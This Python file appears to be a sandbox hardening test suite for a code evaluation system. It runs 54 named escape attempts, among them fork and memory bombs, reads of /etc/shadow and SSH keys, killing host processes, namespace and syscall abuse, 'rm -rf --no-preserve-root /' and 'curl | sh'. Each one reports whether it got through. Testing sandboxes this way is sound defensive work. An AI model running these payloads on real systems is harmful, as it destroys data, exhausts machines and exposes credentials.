"""Attacks on the sandbox, by name: Python that prints ESCAPED when it gets what it must not.

Run as a program, `python attacks.py [NAME...]` tries them on this machine's sandbox as whoever runs
it, and prints those that got through. Those in OUTLIVED are to be ended by the named limit.
"""

import os
import runpy
import signal
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path

from oilstone_eval.sandbox.job import Job, Limits, Outcome
from oilstone_eval.sandbox.slot import Slot
from oilstone_eval.sandbox.walls import Walls

LIMITS = Limits(1, 2, 128, 256, file_mib=16, processes=20, files=512, stack_mib=16)
RUN = "oilstone_eval.judges.python.inside.stdio:alone"
WALLS = Walls("bwrap", preload=("oilstone_eval.judges.python.inside.prepare",))

# Before each attack: `tries(f)` is true when f() raises no OSError; libc is at hand.
HEAD = """
import ctypes, glob, os, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def tries(f):
    try:
        return f() is not False
    except (OSError, MemoryError, ValueError):
        return False
def escaped(what): print("ESCAPED", what, flush=True)
def syscall(*a):
    if libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a]) < 0:
        raise OSError(ctypes.get_errno(), "syscall")
X86 = os.uname().machine == "x86_64"
"""
# Calls that nobody needs, by number on x86_64 and aarch64, with arguments that would not be EINVAL.
CALLS = {
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "bpf": (321, 280), "keyctl": (250, 219),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "io_uring_setup": (425, 425),
    "memfd_create": (319, 279), "shmget": (29, 194), "msgget": (68, 186), "semget": (64, 190),
    "mq_open": (240, 180), "add_key": (248, 217), "mount": (165, 40), "umount2": (166, 39),
    "pivot_root": (155, 41), "chroot": (161, 51), "setns": (308, 268), "unshare": (272, 97),
    "open_tree": (428, 428), "fsopen": (430, 430), "kcmp": (312, 272), "pidfd_getfd": (438, 438),
    "init_module": (175, 105), "reboot": (169, 142), "swapon": (167, 224), "acct": (163, 89),
    "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265), "syslog": (103, 116),
    "settimeofday": (164, 170), "memfd_secret": (447, 447), "clone3": (435, 435),
}  # fmt: skip
FORK = "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
ATTACKS = {
    "01 fork bomb": FORK,
    "02 fork bomb that ignores signals": (
        "for n in range(1, 32):\n    tries(lambda: signal.signal(n, signal.SIG_IGN))\n"
        f"tries(os.setsid)\n{FORK}"
    ),
    "03 memory bomb": "x = []\nwhile True: x.append(bytearray(1 << 24))",
    "04 memory bomb of many processes": (
        "for _ in range(15):\n    if not os.fork(): break\nx = []\n"
        "for _ in range(100):\n    x.append(b'x' * (1 << 20)); time.sleep(.005)\ntime.sleep(9)"
    ),
    "05 memory as files": (
        "n = 0\ntry:\n    for f in range(99):\n      for p in ('/tmp', '/dev/shm'):\n"
        "        with open(f'{p}/{f}', 'wb') as o: n += o.write(b'x' * (1 << 20))\n"
        "except OSError: pass\nif n > 64 << 20: escaped(n)"
    ),
    "06 one huge file": (
        "with open('big', 'wb') as o:\n"
        "    if tries(lambda: o.truncate(1 << 40)): escaped('sparse')\n"
        "    if tries(lambda: [o.write(b'x' * (1 << 20)) for _ in range(40)]): escaped('long')"
    ),
    "07 a bomb of files": (
        "if tries(lambda: [os.mkdir(f'd{n}') for n in range(5000)]): escaped('5000 files')"
    ),
    "08 memory that no limit counts": (
        "if tries(lambda: os.memfd_create('x')): escaped('memfd')\n"
        "for n in ((29, 194), (68, 186), (64, 190)):\n"
        "    if tries(lambda: syscall(n[not X86], 0, 4096, 0o1600)): escaped(n)"
    ),
    "09 endless loop": "while True: pass",
    "10 endless loop beside a sleeper": "if os.fork(): time.sleep(99)\nwhile True: pass",
    "11 endless sleep": "time.sleep(999)",
    "12 endless output": "while True: os.write(1, b'x' * 65536)",
    "13 endless errors of a child": (
        "if os.fork(): time.sleep(99)\nwhile True: os.write(2, b'x' * 65536)"
    ),
    "14 closed output": "os.close(1); os.close(2)\nwhile True: pass",
    "15 endless recursion": (
        "sys.setrecursionlimit(10 ** 9)\ndef f(): return max(map(lambda _: f(), [1]))\nf()"
    ),
    "16 thread bomb": (
        "import threading\nn = 0\ntry:\n    while n < 200:\n"
        "        threading.Thread(target=time.sleep, args=(9,), daemon=True).start(); n += 1\n"
        "except RuntimeError: pass\nif n > 60: escaped(n)\nos._exit(0)"
    ),
    "17 descriptor bomb": "if tries(lambda: [os.dup(0) for _ in range(999)]): escaped('999')",
    "18 a daemon outlives": (
        "if not os.fork():\n    os.setsid()\n    if not os.fork():\n        time.sleep(99)\n"
        "    os._exit(0)"
    ),
    "19 a daemon holds the output": "if not os.fork():\n    os.setsid(); time.sleep(99)",
    "20 ignores signals": (
        "for n in (15, 2, 14, 1, 24):\n    signal.signal(n, signal.SIG_IGN)\nwhile True: pass"
    ),
    "21 kill everybody": "tries(lambda: os.kill(-1, 9))",
    "22 kill a process of the host": (
        "for p in [*range(2, 400), VICTIM]:\n    if tries(lambda: os.kill(p, 9)): escaped(p)"
    ),
    "23 trace the parent": (
        "for p in (os.getppid(), 1, VICTIM):\n"
        "    if p != os.getpid() and tries(lambda: syscall(101 if X86 else 117, 16, p, 0, 0)):"
        " escaped(p)"
    ),
    "24 look into others' /proc": (
        "for name in glob.glob('/proc/[0-9]*'):\n    p = int(name[6:])\n"
        "    if p != os.getpid(): escaped(name)\n"
        "for n in ('mem', 'environ', 'fd'):\n"
        "    if tries(lambda: os.open(f'/proc/{VICTIM}/{n}', 0)): escaped(n)"
    ),
    "25 read secrets of the host": (
        "for p in (SECRET, '/etc/shadow', '/etc/passwd', '/root/.ssh', '/home', '/var/log',"
        " '/proc/1/root/etc', '/sys/kernel', '/etc/hostname'):\n"
        "    if tries(lambda: os.stat(p)) and not p.startswith('/proc/1'): escaped(p)\n"
        "if tries(lambda: open('/proc/1/root' + SECRET)): escaped('root')"
    ),
    "26 links out": (
        "os.symlink(SECRET, 'a')\nif tries(lambda: open('a')): escaped('symlink')\n"
        "if tries(lambda: os.link('/usr/bin/env', 'b')): escaped('hardlink')\n"
        "if tries(lambda: open('/tmp/' + '../' * 9 + SECRET)): escaped('dots')"
    ),
    "27 write outside of scratch": (
        "for p in ('/x', '/usr/x', '/usr/bin/x', '/etc/x', '/dev/x', '/box/x', '/box/job/x',"
        " '/oilstone/x', '/oilstone/oilstone_eval/x', '/proc/sys/kernel/core_pattern', '/root/x',"
        " sys.base_prefix + '/x', '/run/x', '/proc/x'):\n"
        "    if tries(lambda: open(p, 'w')): escaped(p)"
    ),
    "28 write what the evaluator keeps": (
        "if tries(lambda: open(SECRET, 'w')): escaped('verdicts')\n"
        "tries(lambda: os.makedirs(os.path.dirname(SECRET)))\n"
        "tries(lambda: open(SECRET, 'w').write('0wned'))"
    ),
    "29 secrets of the environment": (
        "if 'hunter2' in str(dict(os.environ)): escaped('environ')\n"
        "if b'hunter2' in open('/proc/self/environ', 'rb').read(): escaped('/proc')"
    ),
    "30 inherited descriptors": (
        "for n in range(3, 1024):\n"
        "    if tries(lambda: os.fstat(n)): escaped((n, os.readlink(f'/proc/self/fd/{n}')))"
    ),
    "31 what the zygote remembers": (
        "import gc\nword = 'hunter' + '3'\nfor o in gc.get_objects():\n"
        "    if isinstance(o, (str, bytes)) and word in str(o): escaped('an object')\n"
        "m = open('/proc/self/mem', 'rb', 0)\nfor line in open('/proc/self/maps'):\n"
        "    a, b = (int(n, 16) for n in line.split()[0].split('-'))\n"
        "    if 'rw' in line and b - a < 1 << 26 and 'stack' not in line:\n"
        "        m.seek(a)\n        d = m.read(b - a)\n"
        "        if (word * 2).encode() + b'#' in d: escaped(line)"
    ),
    "32 TCP to the host": (
        "if tries(lambda: socket.create_connection(('127.0.0.1', PORT), 1)): escaped('tcp')"
    ),
    "33 UDP to the host": (
        "if tries(lambda: socket.socket(2, 2).sendto(b'out', ('127.0.0.1', PORT))): escaped('udp')"
    ),
    "34 TCP to the world": (
        "if tries(lambda: socket.create_connection(('192.0.2.1', 80), 1)): escaped('tcp')\n"
        "for f in (2, 10):\n    if tries(lambda: socket.socket(f, 1)): escaped(f)"
    ),
    "35 names of the world": (
        "if tries(lambda: socket.getaddrinfo('example.com', 80)): escaped('dns')"
    ),
    "36 sockets of the host": (
        "s = socket.socket(socket.AF_UNIX)\n"
        "if tries(lambda: s.connect('\\0' + NAME)): escaped('abstract')\n"
        "if tries(lambda: s.connect(SECRET + '.sock')): escaped('path')"
    ),
    "37 strange sockets": (
        "for family in (16, 17, 38, 40, 44, 2, 10, 15, 29, 31):\n  for kind in (1, 2, 3, 5):\n"
        "    if tries(lambda: socket.socket(family, kind)): escaped(family)"
    ),
    "38 a user namespace": (
        "for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000):\n"
        "    if tries(lambda: syscall(272 if X86 else 97, flag)): escaped(hex(flag))\n"
        "    if X86 and tries(lambda: syscall(56, flag | 17, 0, 0, 0, 0)): escaped(('clone', flag))"
    ),
    "39 calls that nobody needs": (
        f"for name, numbers in {CALLS!r}.items():\n    ctypes.set_errno(0)\n"
        "    try: syscall(numbers[not X86], 0, 0, 0, 0, 0, 0)\n"
        "    except OSError as e:\n        if e.errno not in (1, 38): escaped((name, e.errno))\n"
        "    else: escaped(name)"
    ),
    "40 programs that raise rights": (
        "for p in glob.glob('/usr/bin/*') + glob.glob('/usr/lib/**/*', recursive=True)[:3000]:\n"
        "    if tries(lambda: os.stat(p)) and os.stat(p).st_mode & 0o6000:\n"
        "        pid = os.fork()\n"
        "        if pid == 0:\n            os.dup2(os.open('/dev/null', 2), 0)\n"
        "            os.execv(p, [p, '--version'])\n"
        "        os.waitpid(pid, 0)\nfor line in open('/proc/self/status'):\n"
        "    if line.startswith('Cap') and int(line.split()[1], 16): escaped(line)\n"
        "    if line.startswith('NoNewPrivs') and '1' not in line: escaped(line)\n"
        "    if line.startswith('Uid') and '\\t0' in line: escaped(line)"
    ),
    "41 foreign interfaces of the kernel": (
        "if X86:\n    pid = os.fork()\n    if pid == 0:\n"
        "        tries(lambda: syscall(0x40000000 + 39))\n        escaped('x32'); os._exit(0)\n"
        "    os.waitpid(pid, 0)"
    ),
    "42 rm -rf /": "os.system('rm -rf --no-preserve-root / 2>/dev/null')",
    "43 :(){ :|:& };:": "os.execv('/bin/sh', ['sh', '-c', 'f() { f | f & }; f; wait; f'])",
    "44 curl | sh": (
        "r = os.system('exec 2>/dev/null; curl -m 1 http://127.0.0.1:%d | sh' % PORT)"
    ),
    "45 write to devices": (
        "for p in glob.glob('/dev/*'):\n    if p not in ('/dev/null', '/dev/zero', '/dev/full',"
        " '/dev/random', '/dev/urandom', '/dev/tty', '/dev/shm', '/dev/pts', '/dev/ptmx',"
        " '/dev/fd', '/dev/stdin', '/dev/stdout', '/dev/stderr', '/dev/core', '/dev/console'):"
        " escaped(p)"
    ),
    "46 nohup": "os.system('nohup setsid sleep 99 >/dev/null 2>&1 &')",
    "47 new devices and rights": (
        "if tries(lambda: os.mknod('d', 0o60666, os.makedev(8, 0))): escaped('mknod')\n"
        "open('f', 'w').write('x')\n"
        "if tries(lambda: os.chown('f', 0, 0)): escaped('chown')\n"
        "if tries(lambda: os.chroot('.')): escaped('chroot')\n"
        "if tries(lambda: os.setuid(0)): escaped('setuid')\n"
        "for u in (0, 1, 1000, 65534):\n    if u != os.getuid() and tries(lambda: os.setuid(u)):"
        " escaped(u)"
    ),
    "48 type into the terminal": (
        "import fcntl\nfor fd in (0, 1, 2):\n"
        "    if tries(lambda: fcntl.ioctl(fd, 0x5412, b'x')): escaped(fd)\n"
        "if tries(lambda: os.open('/dev/tty', 2)): escaped('tty')"
    ),
    "49 leave something": (
        "for p in ('/tmp/left', '/dev/shm/left', 'left'):\n    open(p, 'w').write('x')\n"
        "sys.modules['left'] = sys\nimport builtins\nbuiltins.left = 1"
    ),
    "50 raise its own limits": (
        "import resource\nfor name in dir(resource):\n    if name.startswith('RLIMIT_'):\n"
        "        kind = getattr(resource, name)\n        hard = resource.getrlimit(kind)[1]\n"
        "        if hard != -1: tries(lambda: resource.setrlimit(kind, (hard, hard * 2 + 1)))\n"
        "        if resource.getrlimit(kind)[1] != hard: escaped(name)\n"
        "if tries(lambda: os.nice(-5)): escaped('nice')\n"
        "if tries(lambda: open('/proc/self/oom_score_adj', 'w').write('-1000')): escaped('oom')\n"
        "if tries(lambda: os.sched_setscheduler(0, 1, os.sched_param(9))): escaped('rt')"
    ),
    "51 stop and hide": (
        "libc.prctl(15, b'kworker', 0, 0, 0)\nif os.fork() == 0:\n    os.kill(os.getpid(), 19)\n"
        "os.kill(os.getpid(), 19)\ntime.sleep(99)"
    ),
    "52 shared memory": (
        "import mmap\nx = []\nfor _ in range(40):\n    m = mmap.mmap(-1, 1 << 24)\n"
        "    m[::4096] = b'x' * 4096\n    x.append(m); time.sleep(.02)\n"
        "escaped('640 MiB')"
    ),
    "53 shared memory of many processes": (
        "import mmap\nfor _ in range(9):\n    if not os.fork(): break\nx = []\n"
        "for _ in range(20):\n    m = mmap.mmap(-1, 1 << 24)\n    m[::4096] = b'x' * 4096\n"
        "    x.append(m); time.sleep(.02)\nescaped('3 GiB')\ntime.sleep(9)"
    ),
    "54 the zygote's socket": (
        "for n in range(3, 300):\n"
        "    if tries(lambda: os.write(n, b'{\"number\": 0, \"status\": 0}')): escaped(n)"
    ),
    **runpy.run_path(str(Path(__file__).parent / "further.py"))["FURTHER"],
}  # fmt: skip
ENDED_BY = {
    "01 fork bomb": ("cpu", "wall"), "02 fork bomb that ignores signals": ("cpu", "wall"),
    "04 memory bomb of many processes": ("memory",), "09 endless loop": ("cpu",),
    "10 endless loop beside a sleeper": ("wall",), "11 endless sleep": ("wall",),
    "12 endless output": ("output",), "13 endless errors of a child": ("output",),
    "14 closed output": ("cpu",), "20 ignores signals": ("cpu",),
    "53 shared memory of many processes": ("memory",),
    "75 buffers of the sockets of many processes": ("memory",),
}  # fmt: skip


@dataclass(frozen=True)
class Host:
    """What an attack could reach outside: a process of the slot's user, a file, sockets."""

    victim: "subprocess.Popen[bytes]"
    secret: Path
    heard: tuple[socket.socket, ...]
    port: int
    name: str

    def facts(self) -> str:
        """Return what the attacker is told."""
        return (
            f"VICTIM, SECRET, PORT, NAME = {self.victim.pid}, {str(self.secret)!r}, {self.port},"
            f" {self.name!r}\n"
        )

    def harmed(self) -> str:
        """Return what happened to it; empty when nothing did."""
        if self.victim.poll() is not None:
            return "the victim was killed"
        if self.secret.read_text() != "hunter2":
            return "the secret was changed"
        return next((f"{s.family.name} was reached" for s in self.heard if _reached(s)), "")


def _reached(listening: socket.socket) -> bool:
    try:
        if listening.type == socket.SOCK_DGRAM:
            listening.recv(10)
        else:
            listening.accept()[0].close()
    except BlockingIOError:
        return False
    return True


@contextmanager
def host(uid: int) -> Iterator[Host]:
    """Set up what can be attacked; `uid` is the slot's when root attacks, else 0."""
    os.environ["OILSTONE_SECRET"] = "hunter2"
    with ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        folder.chmod(0o755)
        secret = folder / "secret"
        secret.write_text("hunter2")
        secret.chmod(0o666)
        name = f"oilstone-{folder.name}"
        tcp = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        port = tcp.getsockname()[1]
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("127.0.0.1", port))
        abstract = stack.enter_context(socket.socket(socket.AF_UNIX))
        abstract.bind(f"\0{name}")
        path = stack.enter_context(socket.socket(socket.AF_UNIX))
        path.bind(f"{secret}.sock")
        for each in (tcp, udp, abstract, path):
            each.setblocking(False)
            if each.type == socket.SOCK_STREAM:
                each.listen()
        victim = stack.enter_context(subprocess.Popen(["sleep", "600"], user=uid or None))
        stack.callback(victim.send_signal, signal.SIGKILL)
        yield Host(victim, secret, (tcp, udp, abstract, path), port, name)


HEALTHY = (
    "import os\nprint(os.listdir('/tmp'), os.listdir('/dev/shm'), os.path.exists('left'),"
    " 'left' in dir(__builtins__), len(os.listdir('/proc')))"
)


def run(slot: Slot, code: str) -> Outcome:
    """Run Python in a fork of the slot's zygote."""
    return slot.run(Job("", (), LIMITS, entry=RUN, given={"code": code}))


def attack(slot: Slot, name: str, target: Host, healthy: bytes) -> str:
    """Return what went wrong in an attack; empty when it was held."""
    outcome = run(slot, HEAD + target.facts() + ATTACKS[name])
    wanted = ENDED_BY.get(name)
    if outcome.fault:
        return f"fault: {outcome.fault}"
    if b"ESCAPED" in outcome.stdout or target.harmed():
        return f"{outcome.stdout[-300:]!r} {target.harmed()}"
    if wanted and outcome.stopped not in wanted:
        return f"ended by {outcome.stopped}, not by {wanted}: {outcome.stderr[-300:]!r}"
    after = run(slot, HEALTHY)
    return "" if after.stdout == healthy else f"afterwards: {after}"


def main(names: list[str]) -> int:
    """Try the attacks named, or all."""
    bad = 0
    with Slot(WALLS) as slot:
        run(slot, "word = 'hunter3hunter3#'")
        healthy = run(slot, HEALTHY).stdout
        with host(uid(slot)) as target:
            for name in names or ATTACKS:
                trouble = attack(slot, name, target, healthy)
                bad += bool(trouble)
                if trouble:
                    print(f"{name}: {trouble}", flush=True)
    print(f"{bad} of {len(names or ATTACKS)} attacks got through")
    return bool(bad)


def uid(slot: Slot) -> int:
    """Return the host's user id of the slot's jobs when root runs it, else 0."""
    if os.geteuid():
        return 0
    return int(run(slot, "import os; print(os.getuid())").stdout)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
